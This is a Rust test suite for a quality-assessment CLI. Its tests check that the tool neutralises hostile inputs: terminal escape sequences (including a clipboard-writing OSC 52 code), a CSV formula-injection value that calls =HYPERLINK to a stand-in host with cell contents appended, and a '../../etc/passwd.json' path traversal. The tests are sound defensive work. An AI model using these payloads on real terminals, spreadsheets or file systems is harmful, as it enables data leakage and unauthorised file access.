//! The CLI as an adapter of the core operations, on the project's own examples and on hostile
//! input: standard output for `-o -`, outputs never over inputs, terminal-safe text, formula-safe
//! CSV, one way to print a percent, cohorts over mixed folders, programmes that name their targets.
#![allow(clippy::unwrap_used, clippy::expect_used)] // test code: a panic is a test failure

mod common;

use common::{stderr, stdout, write, zhuoyue, EXAMPLE};
use serde_json::Value;

const EXAMPLES: &str = concat!(env!("CARGO_MANIFEST_DIR"), "/../../examples");
const ROSTER: &str = concat!(env!("CARGO_MANIFEST_DIR"), "/../../examples/programme/roster.toml");

#[test]
fn dash_output_is_standard_output() {
    let dir = tempfile::tempdir().unwrap();
    let o = std::process::Command::new(env!("CARGO_BIN_EXE_zhuoyue"))
        .current_dir(dir.path())
        .args(["report", EXAMPLE, "--format", "md", "-o", "-"])
        .output()
        .unwrap();
    assert_eq!(o.status.code(), Some(0), "{}", stderr(&o));
    assert!(stdout(&o).starts_with("# "), "{}", stdout(&o));
    assert!(!dir.path().join("-").exists(), "no file named `-`");
    let o = zhuoyue(&["template", "-o", "-"]);
    assert!(serde_json::from_slice::<Value>(&o.stdout).is_ok());
    // The translated assessment alone on standard output, ready for a pipe.
    let o = zhuoyue(&["crosswalk", EXAMPLE, "--to", "baldrige-2023-2024", "-o", "-"]);
    assert_eq!(o.status.code(), Some(0), "{}", stderr(&o));
    let v: Value = serde_json::from_slice(&o.stdout).unwrap();
    assert_eq!(v["framework"], "baldrige-2023-2024");
}

#[test]
fn an_output_never_replaces_an_input() {
    let dir = tempfile::tempdir().unwrap();
    let a = write(dir.path(), "a.json", &std::fs::read_to_string(EXAMPLE).unwrap());
    let before = std::fs::read(&a).unwrap();
    // The same file by another spelling.
    let other = dir.path().join(".").join("a.json");
    for args in [
        vec!["report", a.to_str().unwrap(), "-o", other.to_str().unwrap()],
        vec!["crosswalk", a.to_str().unwrap(), "--to", "baldrige-2023-2024", "-o", a.to_str().unwrap()],
    ] {
        let o = zhuoyue(&args);
        assert_eq!(o.status.code(), Some(1), "{args:?}");
        assert!(stderr(&o).contains("outputs never replace inputs"), "{}", stderr(&o));
    }
    assert_eq!(std::fs::read(&a).unwrap(), before);
    let roster = dir.path().join("roster.toml");
    std::fs::copy(ROSTER, &roster).unwrap();
    for f in ["machinery.json", "hospital.json"] {
        std::fs::copy(format!("{EXAMPLES}/programme/{f}"), dir.path().join(f)).unwrap();
    }
    let o = zhuoyue(&["programme", roster.to_str().unwrap(), "--plan-table", roster.to_str().unwrap()]);
    assert_eq!(o.status.code(), Some(1));
    assert_eq!(std::fs::read_to_string(&roster).unwrap(), std::fs::read_to_string(ROSTER).unwrap());
}

#[cfg(unix)]
#[test]
fn outputs_take_the_umask_or_the_mode_they_replace() {
    use std::os::unix::fs::PermissionsExt;
    let dir = tempfile::tempdir().unwrap();
    let out = dir.path().join("r.html");
    let o = zhuoyue(&["report", EXAMPLE, "-o", out.to_str().unwrap()]);
    assert_eq!(o.status.code(), Some(0), "{}", stderr(&o));
    let mode = std::fs::metadata(&out).unwrap().permissions().mode() & 0o777;
    assert_ne!(mode, 0o600, "readable by others as the umask allows (test umask is usually 022)");
    std::fs::set_permissions(&out, std::fs::Permissions::from_mode(0o640)).unwrap();
    zhuoyue(&["report", EXAMPLE, "-o", out.to_str().unwrap()]);
    assert_eq!(std::fs::metadata(&out).unwrap().permissions().mode() & 0o777, 0o640);
}

#[test]
fn control_characters_in_names_are_shown_not_obeyed() {
    let dir = tempfile::tempdir().unwrap();
    let text = std::fs::read_to_string(EXAMPLE)
        .unwrap()
        .replace("Example Precision Machinery Co. 示例精密机械有限公司", "X\\u001b[32mPASS\\u001b]52;c;aGk=\\u0007");
    let a = write(dir.path(), "esc.json", &text);
    for args in [vec!["score", a.to_str().unwrap()], vec!["cohort", dir.path().to_str().unwrap()]] {
        let o = zhuoyue(&args);
        let out = stdout(&o);
        assert!(!out.contains('\u{1b}') && !out.contains('\u{7}'), "{args:?}: {out:?}");
        assert!(out.contains("\\u{1b}[32mPASS"), "{args:?}: {out}");
    }
    // JSON stays exact data (serde escapes control characters itself).
    let o = zhuoyue(&["score", a.to_str().unwrap(), "--format", "json"]);
    let v: Value = serde_json::from_slice(&o.stdout).unwrap();
    assert!(v["organisation"]["name"].as_str().unwrap().contains('\u{1b}'));
}

#[test]
fn csv_cells_never_run_as_formulas() {
    let dir = tempfile::tempdir().unwrap();
    let text = std::fs::read_to_string(EXAMPLE).unwrap().replace(
        "Example Precision Machinery Co. 示例精密机械有限公司",
        "=HYPERLINK(\\\"http://x.invalid\\\"&A2,\\\"open\\\")",
    );
    write(dir.path(), "=cmd.json", &text);
    let o = zhuoyue(&["cohort", dir.path().to_str().unwrap(), "--format", "csv"]);
    assert_eq!(o.status.code(), Some(0), "{}", stderr(&o));
    let csv = stdout(&o);
    let row = csv.lines().nth(1).unwrap();
    assert!(row.starts_with("'=cmd.json,\"'=HYPERLINK("), "{row}");
    // Numbers stay numbers.
    assert!(row.contains(",466.00,1000.00,"), "{row}");
}

#[test]
fn percents_print_once_rounded_everywhere() {
    // 4.3: 47.50 of 90 = 52.777…% prints 52.8% in the scorecard, the CSV and the report alike.
    let text = stdout(&zhuoyue(&["score", EXAMPLE]));
    assert!(text.contains("52.8%") && !text.contains("52.7%"), "{text}");
    let csv = stdout(&zhuoyue(&["score", EXAMPLE, "--format", "csv"]));
    assert!(csv.contains("category,4.3,顾客与市场,Customers and markets,52.8,47.50,90,"), "{csv}");
    let md = stdout(&zhuoyue(&["report", EXAMPLE, "--format", "md", "--lang", "en"]));
    assert!(md.contains("| 52.8% |"), "{md}");
    let v: Value = serde_json::from_slice(&zhuoyue(&["score", EXAMPLE, "--format", "json"]).stdout).unwrap();
    assert_eq!(v["categories"][2]["percent_text"], "52.8%");
}

#[test]
fn the_scorecard_fits_80_columns() {
    let text = stdout(&zhuoyue(&["score", EXAMPLE]));
    for line in text.lines() {
        assert!(unicode_width::UnicodeWidthStr::width(line) <= 80, "{} columns: {line}", line.len());
    }
}

#[test]
fn an_unknown_language_is_an_error() {
    let o = zhuoyue(&["report", EXAMPLE, "--lang", "fr"]);
    assert_eq!(o.status.code(), Some(2));
    assert!(stderr(&o).contains("`fr`") && stderr(&o).contains("zh, en"), "{}", stderr(&o));
}

#[test]
fn cohort_of_the_examples_folder_counts_partial_rows_apart_and_skips_the_roster() {
    let o = zhuoyue(&["cohort", EXAMPLES, "--format", "json"]);
    assert_eq!(o.status.code(), Some(0), "{}", stderr(&o));
    let v: Value = serde_json::from_slice(&o.stdout).unwrap();
    let rows = v["rows"].as_array().unwrap();
    assert_eq!(rows.len(), 2);
    let partial = rows.iter().find(|r| r["complete"] == false).unwrap();
    assert_eq!((partial["rated"].as_u64(), partial["item_count"].as_u64()), (Some(5), Some(23)));
    let all = v["sectors"].as_array().unwrap().iter().find(|s| s["group"] == "all").unwrap().clone();
    assert_eq!(all["count"], 1, "the partial row is listed, not summarised");
    let o = zhuoyue(&["cohort", EXAMPLES, "--format", "json", "--partial"]);
    let v: Value = serde_json::from_slice(&o.stdout).unwrap();
    let all = v["sectors"].as_array().unwrap().iter().find(|s| s["group"] == "all").unwrap().clone();
    assert_eq!(all["count"], 2);
    let o = zhuoyue(&["cohort", &format!("{EXAMPLES}/programme")]);
    assert_eq!(o.status.code(), Some(0), "{}", stderr(&o));
    assert!(stdout(&o).contains("skipped roster.toml"), "{}", stdout(&o));
}

#[cfg(unix)]
#[test]
fn cohort_matches_extensions_in_any_case_and_leaves_out_pipes() {
    let dir = tempfile::tempdir().unwrap();
    std::fs::copy(EXAMPLE, dir.path().join("A.JSON")).unwrap();
    let fifo = dir.path().join("pipe.json");
    let made = std::process::Command::new("mkfifo").arg(&fifo).status().unwrap();
    assert!(made.success());
    let o = zhuoyue(&["cohort", dir.path().to_str().unwrap(), "--format", "json"]);
    assert_eq!(o.status.code(), Some(0), "{}", stderr(&o));
    let v: Value = serde_json::from_slice(&o.stdout).unwrap();
    assert_eq!(v["rows"][0]["source"], "A.JSON");
    assert_eq!(v["rows"].as_array().unwrap().len(), 1);
    // Named directly, a pipe is refused at once rather than waited on.
    let o = zhuoyue(&["score", fifo.to_str().unwrap()]);
    assert_eq!(o.status.code(), Some(1));
    assert!(stderr(&o).contains("not a regular file"), "{}", stderr(&o));
}

#[test]
fn programme_reads_its_targets_from_the_roster_and_keeps_to_its_folder() {
    let o = zhuoyue(&["programme", ROSTER, "--format", "json"]);
    assert_eq!(o.status.code(), Some(0), "{}", stderr(&o));
    let v: Value = serde_json::from_slice(&o.stdout).unwrap();
    assert_eq!((v["programme"].as_str(), v["year"].as_i64()), (Some("city-drive-2013-2015"), Some(2015)));
    let dir = tempfile::tempdir().unwrap();
    let roster = std::fs::read_to_string(ROSTER).unwrap().replace("\"machinery.json\"", "\"../../etc/passwd.json\"");
    let path = write(dir.path(), "roster.toml", &roster);
    let o = zhuoyue(&["programme", path.to_str().unwrap()]);
    assert_eq!(o.status.code(), Some(1));
    assert!(stderr(&o).contains("outside the roster's folder"), "{}", stderr(&o));
}

#[test]
fn a_consensus_record_keeps_the_organisation() {
    let dir = tempfile::tempdir().unwrap();
    let text = std::fs::read_to_string(EXAMPLE).unwrap();
    let a = write(dir.path(), "wang.json", &text);
    let b = write(dir.path(), "li.json", &text);
    let record = write(dir.path(), "record.json", r#"{"framework": "gbt19580-2012"}"#);
    let out = dir.path().join("agreed.json");
    let o = zhuoyue(&[
        "consensus",
        a.to_str().unwrap(),
        b.to_str().unwrap(),
        "--record",
        record.to_str().unwrap(),
        "-o",
        out.to_str().unwrap(),
    ]);
    assert_eq!(o.status.code(), Some(0), "{}", stderr(&o));
    let o = zhuoyue(&["readiness", out.to_str().unwrap(), "--award", "shanghai-quality-gold", "--format", "json"]);
    let v: Value = serde_json::from_slice(&o.stdout).unwrap();
    assert_ne!(v["verdict"], "unknown", "the gates see the organisation: {v}");
}

#[test]
fn a_merge_over_the_limits_names_the_merged_item_not_the_record() {
    let dir = tempfile::tempdir().unwrap();
    let mut doc: Value = serde_json::from_str(&std::fs::read_to_string(EXAMPLE).unwrap()).unwrap();
    let notes: Vec<String> = (0..101).map(|i| format!("strength {i}")).collect();
    doc["items"]["4.1.2"] = serde_json::json!({"percent": 55, "strengths": notes});
    let a = write(dir.path(), "wang.json", &doc.to_string());
    let b = write(dir.path(), "li.json", &doc.to_string());
    let record = write(dir.path(), "record.json", r#"{"framework": "gbt19580-2012"}"#);
    let o = zhuoyue(&["consensus", a.to_str().unwrap(), b.to_str().unwrap(), "--record", record.to_str().unwrap()]);
    assert_eq!(o.status.code(), Some(1));
    let err = stderr(&o);
    assert!(err.contains("the merged consensus assessment") && err.contains("item 4.1.2"), "{err}");
    assert!(!err.contains("record.json"), "the record is not to blame: {err}");
}

#[test]
fn options_have_help_and_messages_carry_no_debug_text() {
    for command in ["readiness", "report", "cohort", "score", "plan"] {
        let help = stdout(&zhuoyue(&[command, "--help"]));
        for option in ["--partial", "--year"] {
            if let Some(line) = help.lines().find(|l| l.trim_start().starts_with(option)) {
                let described = line.trim_start().len() > option.len() + 10
                    || help
                        .lines()
                        .skip_while(|l| !l.trim_start().starts_with(option))
                        .nth(1)
                        .is_some_and(|l| !l.trim().is_empty());
                assert!(described, "{command} {option} has no help text:\n{help}");
            }
        }
    }
    let dir = tempfile::tempdir().unwrap();
    let text = std::fs::read_to_string(EXAMPLE).unwrap();
    let a = write(dir.path(), "a.json", &text);
    let b = write(dir.path(), "b.json", &text);
    let record =
        write(dir.path(), "r.json", r#"{"framework": "gbt19580-2012", "decisions": {"4.1.2": {"percent": 70}}}"#);
    let o = zhuoyue(&["consensus", a.to_str().unwrap(), b.to_str().unwrap(), "--record", record.to_str().unwrap()]);
    assert_eq!(o.status.code(), Some(1));
    let err = stderr(&o);
    assert!(err.contains("overrides the proposed 55") && !err.contains("Some("), "{err}");
}
